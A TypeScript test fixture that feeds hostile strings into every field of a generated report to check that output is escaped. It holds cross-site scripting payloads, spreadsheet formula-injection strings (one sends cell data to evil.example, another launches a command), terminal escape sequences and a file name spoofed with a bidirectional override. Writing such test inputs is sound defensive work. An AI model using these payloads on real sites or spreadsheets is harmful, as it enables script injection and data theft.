import type { Report } from '../../../src/record/report.ts'

/** What an account may be called by someone who knows how reports are made. */
export const hostileNames = [
  '<script>document.title="owned"</script>',
  '"><img src=x onerror="document.title=\'owned\'">',
  "' onmouseover='alert(1)",
  '</style></script></title><svg onload=alert(1)>',
  '&lt;b&gt; &amp;',
  '=HYPERLINK("https://evil.example/?"&A1,"open")',
  "+1+cmd|' /C calc'!A0",
  '-2+3',
  '@SUM(1,2)',
  '\t=1+1',
  '\u001b[2J\u001b[31mall clear\u001b[0m',
  '\u009b2Jcsi\u0007bell\u0008',
  'line\r\nbreak\u2028and\u2029more',
  'acct\u202Egnp.exe',
  'zero\u200bwidth\u{e0041}tag\ufeff',
  'lone\ud800surrogate',
  '',
  'a'.repeat(3000),
  '组织／한국어 👩‍👩‍👧 ‏עברית',
  'comma, "quote" \'single\'',
] as const

/** What no output may hold: anything that moves a cursor or turns the reading, but the line feed. */
export const unsafe = /(?!\n)\p{Cc}|[\p{Zl}\p{Zp}\u202a-\u202e\u2066-\u2069]/u

/** A report in which every string that comes from a log is hostile. */
export function hostile(report: Report): Report {
  let at = 0
  const next = (): string => hostileNames[at++ % hostileNames.length] ?? ''
  const accounts = new Map(report.accounts.map((one, index) => [one.account, `${next()}${index}`]))
  const campaigns = new Map(report.campaigns.map((one) => [one.id, next()]))
  const reasons =
    report.accounts[0]?.reasons.map((reason) => ({
      ...reason,
      text: next(),
      exchanges: reason.exchanges.map((link) => ({ ...link, file: next() })),
    })) ?? []
  const named = (account: string): string => accounts.get(account) ?? account
  return {
    ...report,
    stillwatch: next(),
    vouches: report.vouches.map((one) => ({ ...one, by: next(), why: next(), until: next() })),
    reviews:
      report.reviews === null
        ? null
        : {
            ...report.reviews,
            detectors: report.reviews.detectors.map((one) => ({ ...one, detector: next() })),
          },
    accounts: report.accounts.map((one, index) => ({
      ...one,
      account: index < 20 ? (hostileNames[index] ?? '') : named(one.account),
      campaign: one.campaign === null ? null : (campaigns.get(one.campaign) ?? null),
      reasons: one.reasons.map((reason) => ({ ...reason, text: next(), detector: next() })),
    })),
    campaigns: report.campaigns.map((one) => ({
      ...one,
      id: campaigns.get(one.id) ?? '',
      accounts: one.accounts.map(named),
      targets: [...hostileNames],
      atlas: [...one.atlas, next()],
      reasons,
      first_seen: next(),
    })),
    log: {
      ...report.log,
      formats: Object.fromEntries(hostileNames.map((name, index) => [name, index])),
      rejected: {
        lines: 210,
        reasons: Object.fromEntries(hostileNames.map((name, index) => [name, index + 1])),
      },
      families: report.log.families.map((one) => ({ ...one, note: next() })),
    },
  }
}
